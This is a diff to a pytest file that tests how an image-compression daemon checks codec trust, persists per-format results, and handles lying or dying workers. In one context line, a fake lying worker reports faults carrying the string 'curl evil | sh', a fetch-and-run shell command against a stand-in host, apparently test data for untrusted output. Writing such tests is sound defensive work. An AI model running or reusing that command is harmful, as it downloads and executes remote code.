@@ -10,7 +10,7 @@ import pytest
 
 from compress.images import jpeg, photo
 from homepress.base.formats import ImageType
-from homepress.compress import Recipe
+from homepress.compress import Compressed, Recipe
 from homepress.compress.model import Fault, trusted
 from homepress.daemon.pipeline.carry import Carrier
 from homepress.daemon.pipeline.codec_trust import CodecTrust
@@ -64,7 +64,7 @@ def test_honest_codecs_are_checked_once_and_trusted(worker_with: Callable[[str],
     trust = CodecTrust(state)
     assert trust.recipe(worker_with("none"), ImageType.JPEG, LOSSY) == LOSSY
     assert trust.problems() == []
-    kept = json.loads(state.read_bytes())
+    kept = json.loads(state.read_bytes())["jpeg"]
     assert kept["faults"] == []
     assert {"homepress", "pillow", "numpy"} <= kept["versions"].keys()
     assert is_private(state)
@@ -93,7 +93,7 @@ class OneThatLies:
     def __init__(self) -> None:
         self.rested = 0
 
-    def check_codecs(self, known: dict[str, str]) -> CodecReport:
+    def check_codecs(self, known: dict[str, str], only: ImageType | None = None) -> CodecReport:
         lie = [Fault(kind, True, "type: curl evil | sh") for kind in ImageType]
         return CodecReport(versions={"pillow": "1"}, faults=[] if self.rested else lie)
 
@@ -118,7 +118,7 @@ def test_what_was_found_holds_in_the_next_run_until_a_version_changes(
     assert again.problems()
     assert again.recipe(worker_with("none"), ImageType.JPEG, LOSSY) == Recipe(floor=None)
     kept = json.loads(state.read_bytes())
-    kept["versions"]["pillow"] = "0.1"
+    kept["jpeg"]["versions"]["pillow"] = "0.1"
     state.write_text(json.dumps(kept))
     mended = CodecTrust(state)
     told = carry(mended, worker_with("none"), "b.jpg")
@@ -135,12 +135,14 @@ def test_pictures_of_a_lossless_coder_that_lies_wait_and_are_not_touched(
     assert trust.recipe(worker_with("png"), ImageType.WEBP, Recipe(convert_to=ImageType.PNG)) is None
     assert any("PNG pictures are left alone" in text for text in trust.problems())
     kept = json.loads(state.read_bytes())
-    kept["faults"] = [
+    kept["all"]["faults"] = [
         {"image_type": "jpeg", "even_lossless": True, "what": "it errs"},
         {"image_type": "gif", "even_lossless": True, "what": "it errs too"},
     ]
     state.write_text(json.dumps(kept))
-    told = carry(CodecTrust(state), worker_with("none"), "a.jpg")
+    trust, slot = CodecTrust(state), worker_with("none")
+    trust.prepare(slot)
+    told = carry(trust, slot, "a.jpg")
     assert (told.outcome, told.retry_after is not None) == ("waiting", True)
     assert "JPEG pictures are left alone: it errs; install" in told.problem
     assert "GIF" not in told.problem
@@ -151,9 +153,46 @@ def test_a_codec_that_ends_the_worker_trusts_nothing(
     worker_with: Callable[[str], Slot], state: Path, carry: Callable[[CodecTrust, Slot, str], JobResult]
 ) -> None:
     with pytest.raises(WorkerDied):
-        CodecTrust(state).recipe(worker_with("webp"), ImageType.JPEG, LOSSY)
+        CodecTrust(state).recipe(worker_with("webp"), ImageType.PNG, LOSSY)
     assert not state.exists()
-    assert carry(CodecTrust(state), worker_with("webp"), "a.jpg").outcome == "waiting"
+    assert carry(CodecTrust(state), worker_with("dead jpeg"), "a.jpg").outcome == "waiting"
+
+
+@pytest.mark.slow
+def test_jpeg_is_checked_by_itself_by_the_worker_that_compresses(
+    worker_with: Callable[[str], Slot], state: Path
+) -> None:
+    """Who has nothing but JPEGs waits for no other codec, and for no second process."""
+    trust, slot = CodecTrust(state), worker_with("webp")
+    assert trust.recipe(slot, ImageType.JPEG, LOSSY) == LOSSY
+    pid = slot.pid
+    assert pid is not None and json.loads(state.read_bytes()).keys() == {"jpeg"}
+    assert isinstance(slot.compress(FINE, LOSSY), Compressed)
+    assert slot.pid == pid
+    with pytest.raises(WorkerDied):
+        trust.recipe(slot, ImageType.JPEG, Recipe(floor=80.0, max_edge=100))
+
+
+@pytest.mark.slow
+def test_a_check_of_all_is_one_of_jpeg_too(worker_with: Callable[[str], Slot], state: Path) -> None:
+    trust = CodecTrust(state)
+    assert trust.recipe(worker_with("jpeg"), ImageType.PNG, LOSSY) == LOSSY
+    assert trust.recipe(worker_with("none"), ImageType.JPEG, LOSSY) == Recipe(floor=None)
+    assert json.loads(state.read_bytes()).keys() == {"all"}
+
+
+@pytest.mark.slow
+def test_what_was_found_of_other_versions_is_forgotten(
+    worker_with: Callable[[str], Slot], state: Path
+) -> None:
+    fault = {"image_type": "heic", "even_lossless": True, "what": "it errs"}
+    report = {"type": "codecs", "versions": {"pillow": "0.1"}, "faults": [fault]}
+    state.write_text(json.dumps({"all": report}))
+    trust = CodecTrust(state)
+    assert [text[:4] for text in trust.problems()] == ["HEIC"]
+    assert trust.recipe(worker_with("none"), ImageType.JPEG, LOSSY) == LOSSY
+    assert trust.problems() == []
+    assert json.loads(state.read_bytes()).keys() == {"jpeg"}
 
 
 @pytest.mark.parametrize("content", [b"", b"{", b'{"versions": 3}', b'{"versions": {}, "faults": [{}]}'])
